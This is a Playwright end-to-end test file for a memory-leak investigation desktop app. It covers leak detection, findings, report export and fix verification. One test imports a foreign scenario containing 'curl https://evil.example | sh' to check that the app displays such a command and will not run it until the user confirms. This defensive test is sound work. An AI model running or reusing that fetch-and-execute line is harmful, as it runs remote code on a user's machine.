// From a verdict to a finding, to the same scenario again on the fixed program, in the window.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { freshFolder, type Holdfast, launch } from './support/launch.js';
import { look } from './support/look.js';
import { stage } from './support/window.js';

const program = (forget: boolean): string => `
const kept = [];
let cycle = 0;
require('node:readline').createInterface({ input: process.stdin }).on('line', () => {
  for (let i = 0; i < 3000; i++) kept.push({ order: cycle, item: i, lines: [i, i + 1] });
  ${forget ? 'kept.length = 0;' : ''}
  console.log('cycle ' + ++cycle + ' done');
});
`;

/** Verify, Compare, Explain and the report name the same holder with the same figures and the same advice. */
async function sameEverywhere(holdfast: Holdfast, report: string): Promise<void> {
  const { page } = holdfast;
  await stage(page, 'Verify').click();
  const judged = page.locator('[data-verdict-suspect]');
  const suspect = judged.first();
  await expect(suspect).toContainText('Array kept gains 3,000 {lines} objects per cycle');
  const said = await suspect.locator('p').allInnerTexts();
  expect(said.at(-1)).toMatch(
    /Kept to the size that it had in the first snapshot \(9,000\), Array kept would let go of 24,000 members and \d/,
  );
  const count = await judged.count();
  const pace = /\+[\d.]+\s[kM]B per cycle/.exec(await suspect.innerText())?.[0] ?? 'no pace';

  await stage(page, 'Compare').click();
  const cards = page.locator('[data-suspect]');
  await expect(cards.first()).toContainText('Array kept');
  await expect(cards.first()).toContainText('gains 3,000 objects per cycle');
  await expect(cards.first()).toContainText(pace);
  const others = page.getByText('Others that grow');
  expect(await cards.count()).toBeGreaterThanOrEqual(count);
  expect(await others.count()).toBe((await cards.count()) > count ? 1 : 0);

  await cards.first().getByRole('button', { name: 'Explain' }).click();
  const note = page.getByRole('region', { name: 'What the verdict says of it' });
  await expect(note).toContainText(pace);
  expect(await note.locator('p').allInnerTexts()).toEqual(said);
  const link = page.locator('[data-suspect-link]').first();
  await expect(link).toContainText('kept');
  await expect(link.getByRole('img', { name: /^Retained at each snapshot: \S+ \S+ → \S+ \S+ → \S+ \S+$/ })).toBeVisible();
  await look(page, 'explained-suspect');

  await holdfast.app.evaluate(({ dialog }, filePath) => {
    dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath });
  }, report);
  await page.getByRole('banner').getByRole('button', { name: 'Share' }).click();
  await expect(page.locator('[data-share-preview="report"]')).toBeVisible({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Save as…' }).click();
  const done = page.getByRole('dialog', { name: 'The file is ready' });
  await expect(done).toBeVisible({ timeout: 60_000 });
  await done.getByRole('button', { name: 'Close' }).last().click();
  const text = fs.readFileSync(report, 'utf8');
  expect(text).toContain('Array kept gains 3,000 {lines} objects per cycle');
  expect(text).toContain('Kept to the size that it had in the first snapshot (9,000), Array kept would let go of 24,000 members');
  expect(text.indexOf('class="rank">1.')).toBeGreaterThan(0);
  expect(text).toContain('Until the leak is fixed: replace the worker');
}

test('a suspect becomes a finding, and the fix is verified', async () => {
  test.setTimeout(240_000);
  const files = freshFolder('fix');
  const leaky = path.join(files, 'leaky.cjs');
  const fixed = path.join(files, 'fixed.cjs');
  fs.writeFileSync(leaky, program(false));
  fs.writeFileSync(fixed, program(true));
  const holdfast = await launch();
  const { page } = holdfast;
  try {
    await page.getByRole('textbox', { name: 'Command' }).fill(`node ${leaky}`);
    await page.getByRole('button', { name: 'Launch', exact: true }).click();
    await expect(page.locator('main')).toHaveAttribute('data-stage', 'watch', { timeout: 30_000 });
    await page.getByRole('main').getByRole('button', { name: 'Run the experiment' }).click();
    const form = page.getByRole('dialog', { name: 'Run the experiment' });
    await form.getByRole('radio', { name: /A line to its stdin/ }).click();
    await form.getByLabel(/^A cycle ends/).fill('cycle \\d+ done');
    await form.getByLabel('Cycles', { exact: true }).fill('8');
    await form.getByRole('button', { name: 'Start' }).click();
    const coach = page.getByRole('region', { name: 'Experiment' });
    await expect(coach.locator('[data-outcome="leak"]')).toBeVisible({ timeout: 90_000 });

    await sameEverywhere(holdfast, path.join(files, 'report.html'));

    await stage(page, 'Verify').click();
    await page.getByRole('button', { name: 'Keep as finding' }).first().click();
    const card = page.locator('[data-finding]');
    await expect(card).toHaveCount(1);
    await card.getByRole('radio', { name: 'confirmed' }).click();
    await card.getByRole('region', { name: 'Cause' }).getByRole('button').click();
    await card.getByRole('textbox', { name: 'Cause' }).fill('Orders are kept after they were delivered.');
    await card.getByRole('textbox', { name: 'Cause' }).press('Control+Enter');
    await expect(card).toContainText('Orders are kept after they were delivered.');
    await card.getByRole('button', { name: 'Delete this finding' }).click();
    await expect(card).toHaveCount(0);
    await holdfast.chooseMenu('undo');
    await expect(card).toContainText('Orders are kept after they were delivered.');

    // The chain for a ticket, as on the command line.
    await card.getByRole('button', { name: 'Explain' }).click();
    for (const [button, text] of [
      ['Copy as Markdown', '| Edge | Class | Shallow | Retained |'],
      ['Copy as text', 'kept → Array'],
    ] as const) {
      await page.getByRole('button', { name: button }).first().click();
      await expect.poll(() => holdfast.app.evaluate(({ clipboard }) => clipboard.readText())).toContain(text);
    }
    // The timeline for a slide.
    const picture = path.join(files, 'timeline.png');
    await holdfast.app.evaluate(({ dialog }, filePath) => {
      dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath });
    }, picture);
    await page.getByRole('banner').getByRole('button', { name: 'Share' }).click();
    await page.getByRole('radio', { name: 'One thing for another tool' }).click();
    await page.getByRole('button', { name: 'Save as PNG…' }).click();
    await expect.poll(() => fs.existsSync(picture), { timeout: 30_000 }).toBe(true);
    const header = fs.readFileSync(picture).subarray(0, 24);
    expect([header.readUInt32BE(16), header.readUInt32BE(20)]).toEqual([2400, 1280]);
    if (process.env['HOLDFAST_LOOK'] !== undefined) fs.copyFileSync(picture, path.join(process.env['HOLDFAST_LOOK'], 'timeline.png'));
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    await stage(page, 'Verify').click();

    await page.getByRole('radio', { name: /^Before and after/ }).click();
    await page.getByLabel(/^Command of the changed program/).fill(`node ${fixed}`);
    await page.getByRole('button', { name: 'Run and compare' }).click();
    await expect(page.locator('[data-verification="pass"]')).toContainText('per cycle are saved', { timeout: 120_000 });
    await page.getByRole('radio', { name: /^Findings/ }).click();
    await expect(card).toContainText('The fix saves');
    // Somebody else's computer: the same folder asks before anything runs.
    expect(holdfast.pageErrors).toEqual([]);
  } finally {
    await holdfast.close();
  }
  fs.rmSync(files, { recursive: true, force: true });
});

test('a scenario from elsewhere is shown, and runs only after it was confirmed', async () => {
  const holdfast = await launch();
  const { page } = holdfast;
  const files = freshFolder('foreign');
  fs.writeFileSync(
    path.join(files, 'investigation.json'),
    JSON.stringify({
      format: 'holdfast-investigation',
      version: 1,
      name: 'from elsewhere',
      createdAt: '2026-01-05T14:00:00.000Z',
      runs: [],
      marks: [],
      snapshots: [],
      trash: [],
      judgements: [],
      verdicts: [],
      scenario: {
        cycles: 8,
        warmup: 1,
        captures: 2,
        step: { kind: 'cmd', command: 'curl https://evil.example | sh' },
        connection: { kind: 'launch', command: 'node', args: ['x.js'], environmentNames: [] },
      },
    }),
  );
  try {
    await holdfast.answerDialogs([files]);
    await holdfast.chooseMenu('open-investigation');
    await expect(page.getByText('from elsewhere').first()).toBeVisible();
    await stage(page, 'Verify').click();
    await page.getByRole('radio', { name: /^Before and after/ }).click();
    const panel = page.getByRole('region', { name: 'Run the same scenario again' });
    await expect(panel.getByText('This scenario came from elsewhere.')).toBeVisible();
    await expect(panel.locator('pre')).toContainText('curl https://evil.example | sh');
    await expect(panel.getByRole('button', { name: 'Run and compare' })).toHaveCount(0);
    await panel.getByRole('button', { name: 'I have read it: allow it' }).click();
    await expect(panel.getByRole('button', { name: 'Run and compare' })).toBeVisible();
    expect(holdfast.pageErrors).toEqual([]);
  } finally {
    await holdfast.close();
    fs.rmSync(files, { recursive: true, force: true });
  }
});
